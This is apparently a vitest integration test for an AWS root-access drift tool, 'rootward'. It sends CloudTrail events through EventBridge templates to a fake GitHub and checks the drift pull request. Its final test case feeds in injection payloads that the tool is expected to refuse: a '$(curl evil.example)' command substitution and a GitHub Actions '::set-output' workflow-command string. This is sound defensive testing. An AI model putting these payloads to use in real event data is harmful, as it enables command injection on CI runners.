/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: CloudFormation Fn::Sub syntax, not JavaScript templates */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runCli } from "../../src/cli/program.js";
import { EVENT_RULES } from "../../src/events/event-rules.js";
import { matchesPattern } from "../../src/events/pattern-match.js";
import { receiverTemplate } from "../../src/events/templates.js";
import { type Sandbox, startSandbox } from "../../src/sandbox/index.js";
import { captureIo } from "../support/capture-io.js";
import { applyInputTransformer } from "../support/eventbridge.js";
import { copyExampleDesiredState, createGitRepos, type GitRepos } from "../support/git-repos.js";
import { type FakeGitHub, startFakeGitHubFor } from "../support/github-fake.js";

/**
 * Issue 17: an AWS event reaches drift.yml as EventBridge and GitHub would deliver it (the
 * receiver template's rule, input transformer, connection headers and API destination, against
 * the local GitHub), and `rootward drift --event` — what the workflow runs — audits that account
 * alone and moves it into, then out of, the one drift pull request.
 */
const NOW = new Date("2026-11-22T12:00:00Z");
const TOKEN = "ghs_events_token";
const ACCOUNT = "555555555502"; // orders-prod: compliant in the example organization
const FIXTURES = join(import.meta.dirname, "../fixtures/cloudtrail");

let sandbox: Sandbox;
let repos: GitRepos;
let github: FakeGitHub;

beforeEach(async () => {
  sandbox = await startSandbox({ now: () => NOW });
  repos = createGitRepos();
  copyExampleDesiredState(repos);
  repos.commitToMain({}, "Desired state");
  github = await startFakeGitHubFor(repos, TOKEN);
  // Real git and a real server: on a busy machine setting up takes longer than the default.
}, 60_000);

afterEach(async () => {
  await github.close();
  await sandbox.stop();
  repos.remove();
}, 60_000);

async function rootward(
  args: string[],
  checkout = repos.work,
): Promise<{ code: number; stdout: string; stderr: string }> {
  const captured = captureIo(checkout, NOW);
  const code = await runCli(args, {
    ...captured.io,
    env: {
      ...repos.env,
      ...sandbox.env(),
      AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: "true",
      GITHUB_TOKEN: TOKEN,
      GITHUB_REPOSITORY: "acme/root-access",
      GITHUB_API_URL: github.apiUrl,
    },
  });
  return { code, stdout: captured.stdout(), stderr: captured.stderr() };
}

/** A recorded CloudTrail event (test/fixtures/cloudtrail), moved to another account and event. */
function cloudTrailEvent(
  fixture: string,
  changes: { account: string; eventName?: string; eventId: string },
): Record<string, unknown> {
  const text = readFileSync(join(FIXTURES, `${fixture}.json`), "utf8").replaceAll(
    "111122223333",
    changes.account,
  );
  const event = (JSON.parse(text) as { event: { detail: Record<string, unknown> } }).event;
  event.detail.eventID = changes.eventId;
  if (changes.eventName) event.detail.eventName = changes.eventName;
  return event;
}

/**
 * What EventBridge sends for `event` on the central bus, and what GitHub then hands drift.yml:
 * the matching rule's input transformer makes the body; the connection's headers and the API
 * destination's endpoint come from the receiver template with its parameters filled in; GitHub
 * answers 204 and starts the workflow with `action` = event_type (GITHUB_EVENT_PATH).
 */
async function deliver(event: Record<string, unknown>, name: string): Promise<string> {
  const template = receiverTemplate();
  const rules = EVENT_RULES.filter((rule) => matchesPattern(rule.pattern, event));
  expect(rules).toHaveLength(1);
  const targets = (template.Resources[`Dispatch${rules[0]?.id}`]?.Properties.Targets ?? []) as {
    InputTransformer: { InputPathsMap: Record<string, string>; InputTemplate: string };
  }[];
  const [target] = targets;
  if (!target) throw new Error("the rule has no target");
  const body = applyInputTransformer(target.InputTransformer, event);
  const parameters: Record<string, string> = {
    GitHubApiUrl: github.apiUrl,
    GitHubRepository: "acme/root-access",
    GitHubToken: TOKEN,
  };
  const sub = (value: unknown) =>
    String((value as { "Fn::Sub": string })["Fn::Sub"]).replace(
      /\$\{(\w+)\}/g,
      (_all, key: string) => parameters[key] ?? "",
    );
  const auth = template.Resources.GitHubConnection?.Properties.AuthParameters as {
    ApiKeyAuthParameters: { ApiKeyName: string; ApiKeyValue: unknown };
    InvocationHttpParameters: { HeaderParameters: { Key: string; Value: string }[] };
  };
  const destination = template.Resources.GitHubDispatch?.Properties as {
    HttpMethod: string;
    InvocationEndpoint: unknown;
  };
  const response = await fetch(sub(destination.InvocationEndpoint), {
    method: destination.HttpMethod,
    headers: {
      "content-type": "application/json",
      [auth.ApiKeyAuthParameters.ApiKeyName]: sub(auth.ApiKeyAuthParameters.ApiKeyValue),
      ...Object.fromEntries(
        auth.InvocationHttpParameters.HeaderParameters.map((header) => [header.Key, header.Value]),
      ),
    },
    body,
  });
  expect(response.status).toBe(204);
  const sent = JSON.parse(body) as { event_type: string; client_payload: unknown };
  const file = join(repos.root, `${name}.json`);
  writeFileSync(
    file,
    JSON.stringify({
      action: sent.event_type,
      branch: "main",
      client_payload: sent.client_payload,
      repository: { full_name: "acme/root-access" },
      sender: { login: "rootward-events[bot]" },
    }),
  );
  return file;
}

type DriftPlan = {
  accounts: { accountId: string; disposition: string }[];
  findings: { ruleId: string; severity: string; accountId?: string; message: string }[];
};

function driftPlan(): DriftPlan {
  return JSON.parse(repos.show("rootward/drift", "drift/plan.json")) as DriftPlan;
}

function drifting(plan: DriftPlan): string[] {
  return plan.accounts
    .filter((account) => account.disposition === "drift")
    .map((account) => account.accountId);
}

/** The calls the sandbox answered since `from`, as AssumeRoot targets and root-session accounts. */
function rootAccess(from: number): { assumed: string[]; sessions: string[] } {
  const calls = sandbox.calls().filter((call) => call.seq > from);
  return {
    assumed: calls.filter((call) => call.operation === "AssumeRoot").map((call) => call.targetAccount ?? "?"),
    sessions: calls.filter((call) => call.caller === "root-session").map((call) => call.account ?? "?"),
  };
}

const lastSeq = () => Math.max(0, ...sandbox.calls().map((call) => call.seq));

describe("rootward drift --event against the sandbox and a local GitHub", () => {
  it("a root access key created in one account joins the drift pull request; after apply, the next event drops it", async () => {
    // The scheduled run: one drift pull request for the example organization.
    const planFile = join(repos.root, "plan.json");
    expect((await rootward(["plan", "--out", planFile, "--quiet", "--format", "json"])).code).toBe(0);
    expect((await rootward(["drift", "--plan", planFile])).code).toBe(0);
    const scheduled = driftPlan();
    const before = drifting(scheduled);
    expect(before.length).toBeGreaterThan(1);
    expect(before).not.toContain(ACCOUNT);

    // Someone signs in as root in orders-prod and creates an access key.
    const orders = sandbox.organization().accountsById.get(ACCOUNT);
    if (!orders) throw new Error(`no account ${ACCOUNT} in the example organization`);
    orders.root ??= { accessKeys: [], mfaDevices: [], signingCertificates: [] };
    orders.root.accessKeys.push({
      id: "AKIAEVENTCREATED0001",
      status: "Active",
      created: Date.parse("2026-11-22T11:50:00Z"),
    });
    const eventId = "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a01";
    const created = await deliver(
      cloudTrailEvent("root-create-access-key", { account: ACCOUNT, eventId }),
      "created",
    );
    const from = lastSeq();
    const added = await rootward(["drift", "--event", created, "--out", join(repos.root, "event-plan.json")]);

    expect(added.code, added.stderr).toBe(0);
    expect(added.stdout).toContain(`CreateAccessKey in account ${ACCOUNT}`);
    const access = rootAccess(from);
    expect(access.assumed.length).toBeGreaterThan(0);
    expect(new Set(access.assumed)).toEqual(new Set([ACCOUNT]));
    expect(new Set(access.sessions)).toEqual(new Set([ACCOUNT]));
    const pulls = github.pulls.filter((pull) => pull.head === "rootward/drift");
    expect(pulls.map((pull) => pull.state)).toEqual(["open"]);
    const withEvent = driftPlan();
    expect(drifting(withEvent).sort()).toEqual([...before, ACCOUNT].sort());
    // Every other account is exactly what the scheduled run decided.
    const others = (plan: DriftPlan) => plan.accounts.filter((account) => account.accountId !== ACCOUNT);
    expect(others(withEvent)).toEqual(others(scheduled));
    const high = withEvent.findings.filter((finding) => finding.ruleId === "root-event-outside-exception");
    expect(high).toEqual([
      expect.objectContaining({
        severity: "high",
        accountId: ACCOUNT,
        message: expect.stringContaining(`at 2026-11-20T10:15:00Z (CloudTrail event ${eventId})`),
      }),
    ]);
    expect(repos.show("rootward/drift", "drift/REPORT.md")).toContain(eventId);
    expect(pulls[0]?.body).toContain(eventId);
    expect(JSON.parse(readFileSync(join(repos.root, "event-plan.json"), "utf8"))).toEqual(withEvent);

    // The drift pull request's plan is applied (its deletes emit events of their own).
    writeFileSync(planFile, repos.show("rootward/drift", "drift/plan.json"));
    await rootward(["apply", planFile, "--auto-approve", "--max-actions", "100"]);
    expect(sandbox.state({ account: ACCOUNT }).accounts[0]?.rootCredentials.accessKeys).toEqual([]);

    const deleted = await deliver(
      cloudTrailEvent("root-session-delete-login-profile", {
        account: ACCOUNT,
        eventName: "DeleteAccessKey",
        eventId: "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a02",
      }),
      "deleted",
    );
    const again = lastSeq();
    const dropped = await rootward(["drift", "--event", deleted]);

    expect(dropped.code, dropped.stderr).toBe(0);
    expect(dropped.stdout).toContain(`account ${ACCOUNT} has no drift`);
    expect(new Set(rootAccess(again).assumed)).toEqual(new Set([ACCOUNT]));
    const after = driftPlan();
    expect(drifting(after).sort()).toEqual([...before].sort());
    expect(after.findings.filter((finding) => finding.ruleId === "root-event-outside-exception")).toEqual([]);
    expect(github.pulls.filter((pull) => pull.head === "rootward/drift").map((pull) => pull.state)).toEqual([
      "open",
    ]);
    expect(github.unexpected).toEqual([]);
  }, 120_000);

  it("the only drifting account converges: the drift pull request closes", async () => {
    // The example organization has root sessions off while its desired state wants them on: with
    // that organization action left, no drift pull request could close.
    const policy = join(repos.work, "desired-state/policy.yaml");
    writeFileSync(
      policy,
      readFileSync(policy, "utf8").replace("rootSessions: enabled", "rootSessions: disabled"),
    );
    repos.commitToMain({}, "Root sessions stay off");
    const account = "444444444442"; // shared-services: one root access key
    const first = await deliver(
      cloudTrailEvent("root-create-access-key", { account, eventId: "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a03" }),
      "first",
    );
    expect((await rootward(["drift", "--event", first])).code).toBe(0);
    expect(drifting(driftPlan())).toEqual([account]);
    const [pull] = github.pulls;

    const state = sandbox.organization().accountsById.get(account);
    if (state?.root) state.root.accessKeys = [];
    const second = await deliver(
      cloudTrailEvent("root-session-delete-login-profile", {
        account,
        eventName: "DeleteAccessKey",
        eventId: "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a04",
      }),
      "second",
    );
    const closed = await rootward(["drift", "--event", second]);

    expect(closed.code, closed.stderr).toBe(0);
    expect(closed.stdout).toContain(`account ${account} has no drift; drift pull request #${pull?.number}`);
    expect(github.pulls.find((entry) => entry.number === pull?.number)?.state).toBe("closed");
    expect(github.unexpected).toEqual([]);
  }, 60_000);

  it("events for two accounts merged at the same time: the drift pull request gains both", async () => {
    const planFile = join(repos.root, "plan.json");
    expect((await rootward(["plan", "--out", planFile, "--quiet", "--format", "json"])).code).toBe(0);
    expect((await rootward(["drift", "--plan", planFile])).code).toBe(0);
    const before = drifting(driftPlan());
    const accounts = ["555555555502", "555555555504"];
    const files: string[] = [];
    for (const [index, id] of accounts.entries()) {
      const state = sandbox.organization().accountsById.get(id);
      if (!state) throw new Error(`no account ${id}`);
      state.root ??= { accessKeys: [], mfaDevices: [], signingCertificates: [] };
      state.root.accessKeys.push({
        id: `AKIARACE000000000${index}`,
        status: "Active",
        created: NOW.getTime(),
      });
      files.push(
        await deliver(
          cloudTrailEvent("root-create-access-key", {
            account: id,
            eventId: `7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9b0${index}`,
          }),
          `race-${index}`,
        ),
      );
    }
    // Two runners, two checkouts: one queue per account lets both runs go at once.
    const second = join(repos.root, "work-2");
    repos.git(repos.root, "clone", "--quiet", repos.bare, second);

    const runs = await Promise.all([
      rootward(["drift", "--event", files[0] ?? ""], repos.work),
      rootward(["drift", "--event", files[1] ?? ""], second),
    ]);

    for (const run of runs) expect(run.code, run.stderr).toBe(0);
    expect(drifting(driftPlan()).sort()).toEqual([...before, ...accounts].sort());
    expect(github.pulls.filter((pull) => pull.head === "rootward/drift").map((pull) => pull.state)).toEqual([
      "open",
    ]);
  }, 120_000);

  it.each([
    ["another event type", { action: "deploy", client_payload: {} }],
    [
      "an unknown key in the client payload",
      {
        action: "rootward-account-event",
        client_payload: {
          accountId: ACCOUNT,
          eventName: "CreateAccessKey",
          eventTime: "2026-11-22T11:50:00Z",
          eventId: "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a05",
          "\n::set-output name=x::y": "1",
        },
      },
    ],
    [
      "an account id that is no account id",
      {
        action: "rootward-account-event",
        client_payload: {
          accountId: "$(curl evil.example)",
          eventName: "CreateAccessKey",
          eventTime: "2026-11-22T11:50:00Z",
          eventId: "7d3e9a51-2b4c-4f1e-9a0b-5c6d7e8f9a05",
        },
      },
    ],
  ])("refuses %s: a clear line, exit 1, no AWS call, nothing written", async (_name, payload) => {
    const file = join(repos.root, "bad.json");
    writeFileSync(file, JSON.stringify(payload));

    const result = await rootward(["drift", "--event", file]);

    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(
      /refusing the repository_dispatch payload .*bad\.json: .*nothing was audited or changed/,
    );
    // No line of it can start a workflow command: control characters are shown as blanks.
    expect(result.stderr.split("\n").some((line) => line.startsWith("::"))).toBe(false);
    expect(sandbox.calls()).toEqual([]);
    expect(github.writes()).toEqual([]);
  });
});
